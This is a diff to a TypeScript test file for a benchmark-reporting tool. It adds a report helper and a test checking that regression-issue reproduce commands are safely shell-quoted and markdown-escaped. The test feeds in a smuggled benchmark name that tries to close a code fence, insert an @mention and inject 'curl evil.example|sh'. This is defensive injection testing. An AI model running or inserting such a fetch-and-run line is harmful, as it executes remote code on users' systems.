@@ -49,6 +49,18 @@ function comparisonReport(t: Texts): ComparisonReport {
   };
 }
 
+function runReport(t: Texts): ComparisonReport {
+  const report = comparisonReport(t);
+  return {
+    ...report,
+    comparisons: report.comparisons.map((c, i) => ({
+      ...c,
+      ...(i === 1 ? { verdict: 'inconclusive' as const, decision: 'budget' as const } : {}),
+      ...(i < 2 ? { detectable: 0.03, suggestedThreshold: 0.05 } : {}),
+    })),
+  } as ComparisonReport;
+}
+
 /** A confirmed nightly regression, written out so that only the strings vary (the scan's own tests cover how it is found). */
 const FINDING: ScanFinding = {
   series: 'main:parse:time:fp', benchmark: 'parse', metric: 'time', unit: 'us', better: 'lower', fingerprintKey: 'fp', branch: 'main',
@@ -93,7 +105,8 @@ const EMPTY_SCAN: ScanResult = { findings: [], awaiting: [], refuted: [], machin
 const SURFACES: Record<string, (t: Texts) => string> = {
   'PR comment, job summary and check run summary (renderMarkdown)': (t) => renderMarkdown(comparisonReport(t), { environment: t(1) }),
   'benchbot run --output markdown (the action\'s job summary)': (t) => renderRunReport({
-    report: comparisonReport(t), roundsPerSide: 10, looks: [{ roundsPerSide: 10 }], failures: [], undecided: [t(2), t(3)],
+    // The footer names benchmarks that ran out of budget and what this machine can detect for each.
+    report: runReport(t), roundsPerSide: 10, maxRoundsPerSide: 40, pooled: {}, looks: [{ roundsPerSide: 10 }], failures: [], undecided: [t(2), t(3)],
     base: { sha: sha('base'), fingerprint: { cpuModel: t(4), cores: 2, kernel: t(5) } }, head: { sha: sha('head') },
   } as unknown as RunAbResult, 'markdown'),
   'app /bench comment and check run (report.json from the artifact)': (t) => renderBenchReport(parseJsonReport(renderJson(comparisonReport(t))), meta(t)),
@@ -249,4 +262,13 @@ test('the text report (terminals and CI logs): one line per row, no escape seque
   assert.equal(text.split('\n').length, plain.split('\n').length);
   assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f]/.test(text), text);
   for (const line of text.split('\n')) assert.ok(!/^\s*::/.test(line), line);
+});
+
+test('reproduce commands: a fence no line can close, no live @mention even in an e-mail reply, every value one shell word', () => {
+  const name = "x```\n````@octocat'; curl evil.example|sh #";
+  const body = renderRegressionIssue({ finding: { ...FINDING, benchmark: name }, owner: 'o', repo: 'r', reproduce: { bench: './b.sh' } }).body;
+  const code = (parseMarkdown(body) as { children: { type: string; lang?: string; value: string }[] }).children.find((n) => n.type === 'code' && n.lang === 'sh');
+  assert.ok(code, body);
+  assert.ok(code.value.includes("--benchmark 'x``` ````@\u200boctocat'\\''; curl evil.example|sh #'"), code.value);
+  assert.ok(!/@[a-z]/i.test(code.value));
 });
